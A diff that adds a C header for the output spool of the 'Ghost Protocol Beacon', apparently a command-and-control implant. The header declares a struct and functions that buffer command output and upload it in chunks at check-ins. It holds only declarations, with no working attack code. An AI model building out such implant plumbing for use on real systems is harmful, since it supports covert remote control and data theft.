@@ -0,0 +1,35 @@
+/*
+ * Ghost Protocol Beacon - Output Spool
+ * Header file for streaming large command output across check-ins
+ */
+
+#ifndef OUTPUT_SPOOL_H
+#define OUTPUT_SPOOL_H
+
+#include "beacon.h"
+
+#define SPOOL_MAX_STREAMS 16
+#define SPOOL_CHUNK_SIZE (MAX_OUTPUT_SIZE - 1)   // output bytes per uploaded chunk
+
+// One command's output, buffered in an anonymous temporary file
+typedef struct {
+    int in_use;
+    char command_id[COMMAND_ID_MAX];
+    FILE* file;
+    long written;       // bytes appended by the producer
+    long uploaded;      // bytes already handed out as chunks
+    int next_sequence;
+    int finished;
+    int success;
+} output_spool_t;
+
+// Spool functions
+int spool_init(void);
+output_spool_t* spool_open(const char* command_id);
+int spool_write(output_spool_t* spool, const char* data, size_t length);
+void spool_finish(output_spool_t* spool, int success);
+int spool_collect(arena_t* arena, result_record_t** results, int max_results);
+int spool_pending(void);
+void spool_shutdown(void);
+
+#endif // OUTPUT_SPOOL_H